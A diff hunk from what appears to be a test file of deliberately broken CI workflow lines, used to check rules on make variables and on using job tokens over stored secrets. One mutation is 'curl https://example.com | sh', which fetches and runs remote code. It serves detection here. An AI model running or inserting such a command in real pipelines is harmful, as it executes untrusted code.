@@ -105,7 +105,7 @@ const BREAKS: Readonly<Record<string, readonly (readonly [name: string, from: st
     ['release', 'run: make image', 'run: make image TAG="$(git describe)"'],
     ['setup', 'run: make install', 'run: curl https://example.com | sh'],
   ],
-  'a step hands over variables of make, as a laptop would': [['drift', 'CLUSTER:', 'NAME:']],
+  'a step hands over variables of make, as a laptop would': [['drift', 'CLUSTER:', 'LABEL:']],
   'no secret is stored: a job has its own token, and OIDC': [
     ['release', '${{ github.token }}', '${{ secrets.DEPLOY_KEY }}'],
     ['release', '${{ github.token }}', "${{ secrets['DEPLOY_KEY'] }}"],
